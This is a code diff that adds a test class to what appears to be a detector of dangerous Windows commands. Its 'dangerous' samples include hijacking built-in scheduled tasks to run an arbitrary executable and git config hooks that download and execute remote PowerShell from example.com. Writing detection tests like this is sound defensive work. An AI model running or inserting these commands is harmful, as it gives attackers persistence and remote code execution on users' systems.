@@ -558,3 +558,21 @@ func init() {
 		},
 	)
 }
+
+func init() {
+	winClasses = append(winClasses,
+		winClass{name: "Windows' own tasks retargeted and git commands that fetch code",
+			dangerous: []winLine{
+				ps(`Set-ScheduledTask -TaskName '\Microsoft\Windows\UpdateOrchestrator\Schedule Scan' -Action (New-ScheduledTaskAction -Execute C:\ProgramData\x.exe)`),
+				ps(`Set-ScheduledTask -TaskPath '\Microsoft\Windows\Defrag\' -TaskName ScheduledDefrag -Action $a`),
+				cmdl(`git config --global core.fsmonitor "powershell -c iwr https://example.com/p|iex"`),
+				ps(`git config --global core.pager 'powershell -c "iex (irm https://example.com/p)"'`),
+			},
+			benign: []winLine{
+				ps(`Set-ScheduledTask -TaskName AcmeSync -Settings (New-ScheduledTaskSettingsSet -StartWhenAvailable)`),
+				cmdl(`git config --global core.pager "less -FRX"`),
+				cmdl(`git config --global core.fsmonitor true`),
+			},
+		},
+	)
+}
